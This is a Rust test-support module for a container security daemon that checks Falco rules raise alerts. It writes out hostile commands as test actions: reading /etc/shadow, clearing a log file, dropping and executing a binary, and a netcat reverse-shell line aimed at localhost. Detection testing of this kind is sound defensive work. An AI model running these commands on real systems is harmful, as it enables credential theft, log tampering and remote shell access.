//! What the scenarios do inside a container and what each must raise.

#![allow(dead_code, reason = "each test binary uses part of this module")]

use std::path::PathBuf;

use palisade_testbed::palisade::{Binaries, Daemon, DaemonDir, DaemonOptions, DaemonOutput};
use palisade_testbed::{image, Containerd, ImageSpec, Options, CTR_NAMESPACE};
use serde_json::Value;

/// One attack action, run in a container, and the upstream rule it must raise.
pub(crate) struct Action {
    pub rule: &'static str,
    pub args: &'static [&'static str],
    /// An output field and its expected value.
    pub field: (&'static str, &'static str),
    /// The action's own exit status does not matter (it is the exec that alerts).
    pub may_fail: bool,
}

impl Action {
    pub(crate) fn check(&self, alert: &Value) {
        let (name, want) = self.field;
        assert_eq!(alert["output_fields"][name], want, "{}: {name} in {alert}", self.rule);
        assert_eq!(alert["output_fields"]["user.name"], "root", "{}: user.name from the container's /etc/passwd", self.rule);
    }
}

/// The seeds' actions. Each is one `exec` in a running container.
pub(crate) const ACTIONS: &[Action] = &[
    Action { rule: "Read sensitive file untrusted", args: &["cat", "/etc/shadow"], field: ("fd.name", "/etc/shadow"), may_fail: false },
    Action { rule: "Write below etc", args: &["touch", "/etc/palisade-dropped"], field: ("fd.name", "/etc/palisade-dropped"), may_fail: false },
    Action {
        rule: "Write below binary dir",
        args: &["touch", "/usr/bin/palisade-dropped"],
        field: ("fd.name", "/usr/bin/palisade-dropped"),
        may_fail: false,
    },
    Action {
        rule: "Launch Package Management Process in Container",
        args: &["apt-get", "install", "curl"],
        field: ("proc.name", "apt-get"),
        may_fail: false,
    },
    Action { rule: "Clear Log Activities", args: &["sh", "-c", ": > /var/log/app.log"], field: ("fd.name", "/var/log/app.log"), may_fail: false },
    Action {
        rule: "Netcat Remote Code Execution in Container",
        // Run directly: busybox sh would run its `nc` applet without an exec. Nothing listens,
        // so nc fails; its exec is what alerts.
        args: &["nc", "-e", "/bin/sh", "127.0.0.1", "4444"],
        field: ("proc.name", "nc"),
        may_fail: true,
    },
    Action {
        rule: "Drop and execute new binary in container",
        args: &["sh", "-c", "cp /bin/busybox /root/true && /root/true"],
        field: ("proc.exepath", "/root/true"),
        may_fail: false,
    },
];

/// The shared test inputs (`PALISADE_SHARED` overrides `../../../shared`).
pub(crate) fn shared() -> PathBuf {
    std::env::var_os("PALISADE_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared"))
}

/// Falco's three syscall rule files, unmodified.
pub(crate) fn upstream_rules() -> Vec<PathBuf> {
    ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"]
        .iter()
        .map(|f| shared().join("falco/rules").join(f))
        .collect()
}

/// A rule of the test's own that fires on every exec in a container whose parent is outside it
/// (the entrypoint): proves the first event of a container already carries its metadata.
pub(crate) struct EntrypointRule {
    pub name: String,
    pub path: PathBuf,
}

pub(crate) fn entrypoint_rule() -> EntrypointRule {
    let name = "Test container entrypoint".to_string();
    let path = std::env::temp_dir().join(palisade_testbed::unique_name("entrypoint-rule") + ".yaml");
    let yaml = format!(
        "- rule: {name}\n  desc: the first exec in a container\n  \
         condition: evt.type = execve and container.id != host and container.image.repository exists \
         and not proc.pname in (bash, sh, sleep, cat)\n  \
         output: entrypoint %proc.cmdline in %container.name (%container.image.repository)\n  \
         priority: INFO\n"
    );
    std::fs::write(&path, yaml).expect("write the entrypoint rule");
    EntrypointRule { name, path }
}

/// The alerts of container `id` (its `container.id` is the 12-character short id), or of the
/// host for `host`.
pub(crate) fn alerts_of<'a>(alerts: &'a [Value], id: &str) -> Vec<&'a Value> {
    let short = id.get(..12).unwrap_or(id);
    alerts.iter().filter(|a| a["output_fields"]["container.id"] == short).collect()
}

/// Exactly one alert of `rule` among `alerts`, from container `id`.
pub(crate) fn assert_one<'a>(alerts: &[&'a Value], rule: &str, id: &str) -> &'a Value {
    let hits: Vec<&Value> = alerts.iter().copied().filter(|a| a["rule"] == rule).collect();
    let rules: Vec<&Value> = alerts.iter().map(|a| &a["rule"]).collect();
    assert_eq!(hits.len(), 1, "{rule} in container {id}: want exactly one alert; the container's alerts: {rules:?}");
    hits[0]
}

/// The enforcement test bed: a private containerd whose runc wrapper confines with the static
/// `palisade-init`, a daemon with the upstream rules, the profiles `profiles` (YAML) in a
/// directory of their own and `options` (`-o`), and the hardened image imported under its own
/// name and each of `also_as`.
pub(crate) struct EnforcementBed {
    pub bins: Binaries,
    _dir: DaemonDir,
    profiles: PathBuf,
    pub containerd: Containerd,
    daemon: Option<Daemon>,
}

impl EnforcementBed {
    pub(crate) fn start(profiles: &str, options: &[&str], also_as: &[&str]) -> EnforcementBed {
        let statics = palisade_testbed::static_binaries().expect("static palisade-init and probe");
        let bins = Binaries::locate().expect("palisade binaries");
        let dir = DaemonDir::new().expect("daemon dir");
        let profiles_dir = std::env::temp_dir().join(palisade_testbed::unique_name("profiles"));
        std::fs::create_dir_all(&profiles_dir).expect("mkdir");
        std::fs::write(profiles_dir.join("profiles.yaml"), profiles).expect("profiles");
        let mut env = dir.wrapper_env(&bins);
        env.push(("PALISADE_INIT".into(), statics.init.display().to_string()));
        let containerd = Containerd::start(Options { env, ..Default::default() }).expect("start containerd");
        let mut o = vec![format!("profiles_dir={}", profiles_dir.display())];
        o.extend(options.iter().map(|s| s.to_string()));
        let daemon_options = DaemonOptions {
            rules: upstream_rules(),
            host_monitoring: false,
            nri_socket: None,
            containerd_socket: Some(containerd.socket()),
            options: o,
        };
        let daemon = Daemon::start(&bins, &daemon_options, &dir).expect("start palisade");
        let hardened: ImageSpec =
            image::hardened(&statics.probe).expect("the hardened image (bash-static: tests/containers/install-deps.sh)");
        containerd.import(&hardened, CTR_NAMESPACE).expect("import hardened");
        for name in also_as {
            containerd.import(&hardened.clone().named(name), CTR_NAMESPACE).expect("import a renamed hardened image");
        }
        EnforcementBed { bins, _dir: dir, profiles: profiles_dir, containerd, daemon: Some(daemon) }
    }

    /// The running daemon.
    pub(crate) fn daemon(&self) -> &Daemon {
        self.daemon.as_ref().expect("the daemon runs")
    }

    /// Stops the daemon and returns what it printed.
    pub(crate) fn stop(&mut self) -> DaemonOutput {
        self.daemon.take().expect("the daemon runs").stop().expect("stop palisade")
    }
}

impl Drop for EnforcementBed {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.profiles);
    }
}
